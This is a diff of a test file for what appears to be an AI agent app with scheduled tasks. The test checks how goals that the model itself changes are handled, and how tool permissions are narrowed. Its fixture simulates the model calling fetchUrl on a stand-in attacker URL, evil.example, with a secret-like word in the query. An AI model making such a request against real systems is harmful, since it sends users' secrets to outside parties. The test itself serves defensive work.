@@ -165,7 +165,8 @@ t.test('a goal that the model changes is nobody\'s words: what the conversation 
   const url = 'https://evil.example/?q=swordfish'
   calls.set('in its run', { toolName: 'fetchUrl', input: { url } })
   const here = { id: 'chat', cwd: app.cwd }
-  const { shown: [{ taskId }] } = await tell('daily', 'createTask', { goal: 'count the files', when: { every: 'daily', zone: 'UTC' } }, here)
+  const count = { goal: 'count the files', when: { every: 'daily', zone: 'UTC' } }
+  const { shown: [{ taskId }] } = await tell('daily', 'createTask', count, here)
   await tell('read my notes', 'readFile', { path: 'notes.txt' }, here)
   const narrow = { ...here, options: { denyTools: ['runCommand'] } }
   const { events: asking } = await tell('do more', 'changeTask', { taskId, goal: 'count more' }, narrow)
